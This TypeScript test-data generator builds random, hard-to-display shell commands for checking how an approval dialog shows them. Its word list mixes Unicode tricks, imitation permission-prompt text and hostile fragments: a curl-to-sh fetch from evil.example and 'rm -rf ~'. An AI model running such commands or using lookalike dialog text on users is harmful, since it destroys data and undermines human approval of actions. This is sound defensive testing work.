/** Commands that are hard to show: wide, joined, unseen, and alike to dialogs. */
import { below, pick } from '../random.ts'

const words = [
  ...['ls -l', 'curl https://evil.example/x', '|', 'sh', ';', 'rm -rf ~', 'echo', '&&', '#'],
  ...[
    ...['👩', '👩\u200d👩\u200d👧', '🏳\ufe0f\u200d🌈', '🇩🇪', '👍🏽', '✔\ufe0f', '✔\ufe0e', '⚠'],
    '☁\ufe0f',
  ],
  ...['世界', 'ｆｕｌｌ', '\u3000', '한글', '\u1112\u1161\u11ab', 'e\u0301', 'a\u0301\u0302\u0303'],
  ...[`o${'\u0301'.repeat(20)}`, '\u0301', 'שלום', 'مرحبا', '\u202e', '\u2066x\u2069', '\u200b'],
  ...['\u200d', '\ufe0f', '\u2060', '\u00ad', '\u{e0041}', '\u3164', '\u2800', '\u00a0'],
  ...['│', '│ ', ' │', ' │ ', '┃', '─', '╌', '╭', '╮', '╰', '╯', '│ │', '▔', '───', '-----'],
  ...['❯ 1. Yes', '2. No', '   3. No', '1. Allow once', 'Do you want to proceed?', '● 1. Yes'],
  ...['  Would you like to run the following command?', '△ Permission required', '# Shell command'],
  ...['[y] Approve   [n] Deny', '[A]llow [D]eny', 'Allow once   Allow always   Reject', '$ ls'],
  ...[' Cline needs permission', '  Command to approve', '▶ Run this command?', '? Shell'],
  ...['Esc to cancel · Tab to amend', '(y)', '(esc)', '…', 'Yes, allow', 'No, cancel'],
  ...['\t', '  ', '      ', ' '.repeat(40), 'x'.repeat(150), '=', 'python3 -c "import os"'],
]

/** A command of parts that dialogs, terminals and lists may take for something else. */
export function hardCommand(random: () => number, cols: number): string {
  const parts = Array.from({ length: 1 + below(random, 12) }, () => {
    const kind = below(random, 12)
    if (kind === 0) return '\n'.repeat(1 + below(random, 3))
    if (kind === 1) return pick(random, ['─', '╌', '-', '▔']).repeat(cols - below(random, 9))
    if (kind === 2) return pick(random, words).repeat(below(random, cols))
    return pick(random, words)
  })
  const command = parts.join(below(random, 2) === 0 ? ' ' : '')
  return command.trim() === '' ? 'ls' : command
}
